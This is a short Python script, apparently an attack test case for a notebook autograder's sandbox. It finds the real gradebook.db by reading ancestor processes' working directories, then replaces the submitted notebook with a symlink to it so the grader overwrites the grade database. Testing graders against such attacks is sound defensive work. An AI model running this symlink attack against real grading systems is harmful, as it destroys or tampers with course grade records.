# @right
# @include _procs.py
# Attack: replace this notebook's file in the kernel's working folder with a
# symbolic link to the gradebook (the real course's, found through a grading
# process's working directory, else ../../../gradebook.db). The grader writes
# the autograded notebook to this name when the notebook has run.
_target = "../../../gradebook.db"
for _pid in ancestors():
    try:
        _cwd = _os.readlink(f"/proc/{_pid}/cwd")
    except OSError:
        continue
    if _os.path.exists(_os.path.join(_cwd, "gradebook.db")) and _os.path.isdir(
        _os.path.join(_cwd, "submitted")
    ):
        _target = _os.path.join(_cwd, "gradebook.db")
        break
try:
    if _os.path.lexists("01_threads.ipynb"):
        _os.remove("01_threads.ipynb")
    _os.symlink(_target, "01_threads.ipynb")
    print("linked to", _target)
except Exception as exc:  # noqa: BLE001
    print("attack failed:", type(exc).__name__)
